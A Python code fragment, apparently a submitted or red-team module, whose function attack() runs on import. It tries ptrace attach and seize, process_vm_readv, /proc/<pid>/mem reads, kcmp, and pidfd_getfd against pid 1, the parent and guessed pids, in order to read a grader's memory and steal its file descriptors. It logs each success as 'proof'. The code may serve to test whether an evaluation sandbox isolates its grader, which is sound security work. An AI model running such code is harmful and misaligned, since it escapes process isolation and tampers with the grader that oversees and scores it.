"""ptrace, process_vm_readv, /proc/<pid>/mem, pidfd_open + pidfd_getfd and kcmp on pid 1,
its parent and every pid it can see or guess: to read the grader's memory or steal its fds."""
# ---- the attack ----
PTRACE_TRACEME, PTRACE_ATTACH, PTRACE_SEIZE = 0, 16, 0x4206


class _IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def attack():
    me = os.getpid()
    seen = [int(p) for p in os.listdir("/proc") if p.isdigit()]
    pids = list(dict.fromkeys([1, 2, os.getppid()] + seen + list(range(1, 400))))
    buf = ctypes.create_string_buffer(4096)
    local, remote = _IoVec(ctypes.cast(buf, ctypes.c_void_p), 4096), _IoVec(0x400000, 4096)
    stolen = 0
    for pid in pids:
        if pid == me or pid <= 0:
            continue
        quiet = pid not in seen and pid > 3
        for what, call in (("ptrace attach", lambda: _LIBC.ptrace(PTRACE_ATTACH, pid, 0, 0)),
                           ("ptrace seize", lambda: _LIBC.ptrace(PTRACE_SEIZE, pid, 0, 0)),
                           ("process_vm_readv", lambda: _LIBC.syscall(310, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)),
                           ("kcmp", lambda: _LIBC.syscall(312, me, pid, 0, 0, 0))):
            ctypes.set_errno(0)
            rc = call()
            if rc != -1:
                _note(f"{what} {pid}", f"ok {rc}")
                _proof(what.replace(" ", "-"), pid)
            elif not quiet:
                _note(f"{what} {pid}", errno.errorcode.get(ctypes.get_errno(), "?"))
        fd = _LIBC.syscall(434, pid, 0)
        if fd >= 0:
            _note(f"pidfd_open {pid}", "ok")
            for target in range(0, 64):
                got = _LIBC.syscall(438, fd, target, 0)
                if got >= 0:
                    stolen += 1
                    _proof("pidfd_getfd", f"{pid}:{target}")
        elif not quiet:
            _note(f"pidfd_open {pid}", errno.errorcode.get(ctypes.get_errno(), "?"))
        try:
            with open(f"/proc/{pid}/mem", "rb") as f:
                f.seek(0x400000)
                f.read(16)
                _proof("proc-mem", pid)
                _note(f"/proc/{pid}/mem", "read")
        except OSError as exc:
            if not quiet:
                _note(f"/proc/{pid}/mem", exc.strerror)
    child = os.fork()
    if child == 0:  # traced by the parent? then the parent could trace anything it forks
        ok = _LIBC.ptrace(PTRACE_TRACEME, 0, 0, 0) == 0
        os._exit(0 if ok else 1)
    _, status = os.waitpid(child, 0)
    _note("PTRACE_TRACEME in a child", "ok" if os.WEXITSTATUS(status) == 0 else "refused")
    _note("fds stolen", stolen)


_try("attack at import", attack)
_try("hunt", _hunt)
attack_in_call = attack
